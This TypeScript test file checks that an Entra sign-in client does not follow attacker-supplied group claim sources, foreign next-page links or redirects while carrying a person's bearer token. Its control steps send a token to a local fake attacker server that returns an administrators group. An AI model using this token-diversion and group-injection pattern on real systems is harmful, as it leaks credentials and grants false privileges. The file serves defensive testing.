// Attack: a token that is too full for groups says where they are to be had: at the attacker's, who gets a token and hands out rights.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test } from 'node:test';
import { createEntraFetch } from '../../src/identity/entra/entra-fetch.ts';
import { groupsAtGraph } from '../../src/identity/entra/groups.ts';
import { startEntraHouse } from '../support/entra-house.ts';
import { startGraph } from '../support/graph.ts';
import type { Graph } from '../support/graph.ts';

const administrators = '99999999-9999-4999-8999-999999999999';

async function startAttacker() {
  const seen: (string | undefined)[] = [];
  const server = createServer((request, response) => {
    seen.push(request.headers.authorization);
    response.writeHead(200, { 'content-type': 'application/json' });
    response.end(JSON.stringify({ value: [{ id: administrators }] }));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const close = () => new Promise<void>((resolve) => (server.close(() => resolve()), server.closeAllConnections()));
  return { url, seen, [Symbol.asyncDispose]: close };
}

test('the address of groups in a token is not followed: they come from Microsoft Graph', async () => {
  await using attacker = await startAttacker();
  let graph: Graph | undefined;
  await using house = await startEntraHouse({
    provider: async (entra) => ({ graphUrl: (graph = await startGraph(entra)).url }),
  });
  await using _graph = graph!;
  house.entra.tamper = ({ groups: _groups, ...claims }) => ({
    ...claims,
    _claim_names: { groups: 'src1' },
    _claim_sources: { src1: { endpoint: `${attacker.url}/groups`, access_token: 'of-the-attacker' } },
  });
  await house.signIn(house.dana);
  assert.deepEqual((await house.personOf(house.dana))!.groups.toSorted(), house.dana.groups.toSorted());
  assert.equal(attacker.seen.length, 0);

  // OpenID Connect Core §5.6.2 has clients do this.
  const followed = await fetch(`${attacker.url}/groups`, { headers: { authorization: 'Bearer the-persons-token' } });
  const { value } = (await followed.json()) as { value: { id: string }[] };
  assert.deepEqual(value, [{ id: administrators }], 'control: who follows it gets what the attacker wants');
  assert.deepEqual(attacker.seen, ['Bearer the-persons-token']);
});

test('nor is the address of a next page that lies elsewhere', async () => {
  await using attacker = await startAttacker();
  const graphUrl = 'https://graph.example';
  const page = { value: [{ id: '11111111-1111-4111-8111-111111111111' }], '@odata.nextLink': `${attacker.url}/next` };
  const own = (async (input: string) =>
    input.startsWith(graphUrl) ? Response.json(page) : fetch(input)) as typeof fetch;
  const send = createEntraFetch(own, [graphUrl]);
  await assert.rejects(groupsAtGraph(graphUrl, 'the-persons-token', send), { code: 'identity_groups_unavailable' });
  assert.equal(attacker.seen.length, 0);
  const anywhere = createEntraFetch(fetch);
  await anywhere(`${attacker.url}/next`, { headers: { authorization: 'Bearer the-persons-token' } });
  assert.deepEqual(attacker.seen, ['Bearer the-persons-token'], 'control: the token would have gone there');
});

test('a redirect takes no token along', async () => {
  await using attacker = await startAttacker();
  const moved = createServer((_request, response) => void response.writeHead(307, { location: attacker.url }).end());
  await new Promise<void>((resolve) => moved.listen(0, '127.0.0.1', resolve));
  const from = `http://127.0.0.1:${(moved.address() as AddressInfo).port}`;
  const headers = { authorization: 'Bearer the-persons-token' };
  await assert.rejects(createEntraFetch(fetch)(from, { headers }), { code: 'identity_provider_unavailable' });
  assert.equal(attacker.seen.length, 0);
  await fetch(from, { headers });
  assert.equal(attacker.seen.length, 1, 'control: fetch by itself goes there');
  await new Promise<void>((resolve) => (moved.close(() => resolve()), moved.closeAllConnections()));
});
